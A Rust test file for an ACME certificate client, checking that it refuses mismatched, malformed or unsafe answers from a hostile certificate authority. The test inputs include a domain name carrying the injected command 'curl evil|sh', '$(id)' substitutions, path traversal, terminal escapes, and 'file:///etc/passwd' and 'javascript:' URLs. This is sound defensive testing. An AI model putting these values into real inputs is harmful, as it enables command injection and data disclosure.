//! Authorities whose answers do not match the order.

use crate::hostile::{Answers, TOKEN, serve};
use berth_acme::{Account, AcmeError, Placed, Terms};
use serde_json::{Value, json};
use std::time::Duration;

const NAME: &str = "ml.contoso.example";
const WILDCARD: &str = "*.ml.contoso.example";

async fn order(answers: Answers, names: &[&str]) -> Result<Placed, AcmeError> {
    let directory = serve(answers).await;
    let (account, _) = Account::register(&directory, None).await?;
    account.order(names).await
}

#[tokio::test]
async fn a_well_behaved_authority_is_accepted() {
    for (identifiers, names) in [
        (vec![(NAME, false)], vec![NAME]),
        (vec![("ML.Contoso.Example", false)], vec![NAME]),
        (vec![(NAME, true), (NAME, false)], vec![NAME, WILDCARD]),
        (vec![(NAME, true)], vec![WILDCARD]),
        (vec![(NAME, false)], vec![WILDCARD]),
    ] {
        let placed = order(Answers::about(&identifiers), &names).await.unwrap();
        assert_eq!(placed.records.len(), identifiers.len());
        for record in &placed.records {
            assert_eq!(record.name, format!("_acme-challenge.{NAME}"));
            assert!(names.contains(&record.for_name.as_str()), "{record:?}");
        }
    }
}

#[tokio::test]
async fn a_name_that_was_not_ordered_is_refused() {
    for stranger in [
        "x;curl evil|sh;\u{1b}[31m.victim.example",
        "victim.example",
        "contoso.example",
        "a.ml.contoso.example",
        "ml.contoso.example.evil.example",
        "$(id).ml.contoso.example",
        "",
    ] {
        for wildcard in [false, true] {
            let error = order(Answers::about(&[(stranger, wildcard)]), &[NAME])
                .await
                .unwrap_err();
            assert!(
                matches!(&error, AcmeError::NotOrdered { host, .. } if host == "127.0.0.1"),
                "{stranger}: {error:?}"
            );
        }
    }
    // One more than was ordered.
    let error = order(
        Answers::about(&[(NAME, false), ("victim.example", false)]),
        &[NAME],
    )
    .await
    .unwrap_err();
    assert!(matches!(error, AcmeError::Protocol { .. }), "{error:?}");
    let both = ["a.contoso.example", NAME];
    let error = order(Answers::about(&[(NAME, false), ("victim.example", false)]), &both)
        .await
        .unwrap_err();
    assert!(
        matches!(&error, AcmeError::NotOrdered { name, .. } if name == "victim.example"),
        "{error:?}"
    );
}

#[tokio::test]
async fn a_name_that_is_left_out_is_reported() {
    for answered in [vec![], vec![(NAME, false)], vec![(NAME, false), (NAME, false)]] {
        let error = order(Answers::about(&answered), &[NAME, "other.contoso.example"])
            .await
            .unwrap_err();
        assert!(
            matches!(&error, AcmeError::LeftOut { .. }),
            "{answered:?}: {error:?}"
        );
    }
}

#[tokio::test]
async fn a_token_must_be_base64url() {
    for token in ["", "a b", "../../x", "$(id)", "a;b", "a\nb", "ü"] {
        let mut answers = Answers::about(&[(NAME, false)]);
        answers.authorizations[0]["challenges"][0]["token"] = json!(token);
        let error = order(answers, &[NAME]).await.unwrap_err();
        assert!(
            matches!(&error, AcmeError::BadToken { name, .. } if name == NAME),
            "{token:?}: {error:?}"
        );
    }
    assert!(TOKEN.len() > 40);
}

#[tokio::test]
async fn an_address_that_is_not_https_is_refused() {
    type Spoil = fn(&mut Answers, Value);
    let spoils: [(&str, Spoil); 4] = [
        ("order", |answers, url| {
            answers.order_url = url.as_str().unwrap_or_default().to_owned()
        }),
        ("authorization", |answers, url| {
            answers.order["authorizations"][0] = url
        }),
        ("finalize", |answers, url| answers.order["finalize"] = url),
        ("certificate", |answers, url| answers.order["certificate"] = url),
    ];
    for (member, spoil) in spoils {
        for url in [
            "http://127.0.0.1:1/x",
            "file:///etc/passwd",
            "https://me:you@a.example/x",
            "/relative",
        ] {
            let mut answers = Answers::about(&[(NAME, false)]);
            spoil(&mut answers, json!(url));
            let error = order(answers, &[NAME]).await.unwrap_err();
            assert!(
                matches!(&error, AcmeError::NotHttps { url: told, .. } if told == url),
                "{member} {url}: {error:?}"
            );
        }
    }
}

#[tokio::test]
async fn terms_at_another_kind_of_address_are_not_shown() {
    let told = |meta: Value| async {
        let answers = Answers {
            meta,
            ..Answers::about(&[])
        };
        Terms::read(&serve(answers).await).await
    };
    let address = "https://ca.example/terms-v2.pdf";
    let terms = told(json!({ "termsOfService": address, "website": "http://ca.example" }))
        .await
        .unwrap();
    assert_eq!(
        (terms.host.as_str(), terms.address.as_deref()),
        ("127.0.0.1", Some(address))
    );
    assert!(!terms.hidden);
    let none = told(json!({})).await.unwrap();
    assert_eq!((none.address, none.hidden), (None, false));
    let long = format!("https://ca.example/{}", "x".repeat(10_000));
    for bad in [
        "http://ca.example/terms",
        "javascript:alert(1)",
        "https://ca.example/\u{1b}[31m",
        "file:///etc/passwd",
        "data:text/plain,Do%20what%20thou%20wilt",
        &long,
    ] {
        let terms = told(json!({ "termsOfService": bad })).await.unwrap();
        assert_eq!((terms.address, terms.hidden), (None, true), "{bad}");
    }
    let error = told(json!({ "termsOfService": 7 })).await.unwrap_err();
    assert!(matches!(error, AcmeError::Protocol { .. }), "{error:?}");
}

/// An invalid order, its problem, and whether its authorizations can be read.
async fn go_on(problem: Value, names: &[&str], authorizations: Option<Value>) -> AcmeError {
    let identifiers: Vec<(&str, bool)> = names.iter().map(|name| (*name, false)).collect();
    let mut answers = Answers::about(&identifiers);
    answers.order["status"] = json!("invalid");
    answers.order["error"] = problem;
    match authorizations {
        Some(seen) => answers
            .authorizations
            .iter_mut()
            .for_each(|one| one["challenges"][0]["error"] = seen.clone()),
        None => answers.authorizations.clear(),
    }
    let directory = serve(answers).await;
    let url = directory.url.join("/order/1").unwrap();
    let (account, _) = Account::register(&directory, None).await.unwrap();
    account
        .go_on(url.as_str(), names, Duration::from_secs(20))
        .await
        .unwrap_err()
}

fn problem(kind: &str, detail: &str) -> Value {
    json!({ "type": format!("urn:ietf:params:acme:error:{kind}"), "detail": detail })
}

#[tokio::test]
async fn an_unproven_name_is_reported_even_when_authorizations_cannot_be_read() {
    let both = [NAME, "other.contoso.example"];
    let told_apart = json!({
        "type": "urn:ietf:params:acme:error:compound",
        "subproblems": [{
            "type": "urn:ietf:params:acme:error:unauthorized",
            "detail": "Incorrect TXT record",
            "identifier": { "type": "dns", "value": "other.contoso.example" },
        }],
    });
    let all = both.join(", ");
    for (problem, names, name, said) in [
        (
            problem("unauthorized", "Incorrect TXT record"),
            &both[..1],
            NAME,
            "Incorrect TXT record",
        ),
        (problem("dns", "No TXT record"), &both[..], &all, "No TXT record"),
        (told_apart, &both[..], both[1], "Incorrect TXT record"),
        (Value::Null, &both[..1], NAME, "the order is invalid"),
    ] {
        let error = go_on(problem, names, None).await;
        assert!(
            matches!(&error, AcmeError::NotProven { name: at_fault, said: words, .. } if at_fault == name && words == said),
            "{error:?}"
        );
    }
    let error = go_on(problem("rateLimited", "Too many"), &[NAME], None).await;
    assert!(
        matches!(&error, AcmeError::Refused { kind, said, .. } if kind == "rateLimited" && said == "Too many"),
        "{error:?}"
    );
    let seen = problem("dns", "NXDOMAIN looking up TXT");
    let error = go_on(problem("unauthorized", "of the order"), &[NAME], Some(seen)).await;
    assert!(
        matches!(&error, AcmeError::NotProven { said, .. } if said == "NXDOMAIN looking up TXT"),
        "{error:?}"
    );
}

#[tokio::test]
async fn a_name_whose_verification_failed_at_once_is_reported() {
    let found = problem("unauthorized", "No TXT records found for DNS challenge");
    let refused = problem("rateLimited", "Too many");
    for (challenge, seen, expected) in [
        (
            (
                200,
                json!({ "type": "dns-01", "url": "{base}/challenge", "status": "invalid", "token": TOKEN, "error": found }),
            ),
            found.clone(),
            ("NotProven", "No TXT records found for DNS challenge"),
        ),
        ((429, refused), Value::Null, ("Refused", "Too many")),
    ] {
        let mut answers = Answers::about(&[(NAME, false)]);
        answers.challenge = challenge;
        answers.authorizations[0]["challenges"][0]["error"] = seen;
        let directory = serve(answers).await;
        let url = directory.url.join("/order/1").unwrap();
        let (account, _) = Account::register(&directory, None).await.unwrap();
        let error = account
            .go_on(url.as_str(), &[NAME], Duration::from_secs(20))
            .await
            .unwrap_err();
        let told = match &error {
            AcmeError::NotProven { name, said, .. } if name == NAME => ("NotProven", said.as_str()),
            AcmeError::Refused { said, .. } => ("Refused", said.as_str()),
            _ => ("another error", ""),
        };
        assert_eq!(told, expected, "{error:?}");
    }
}
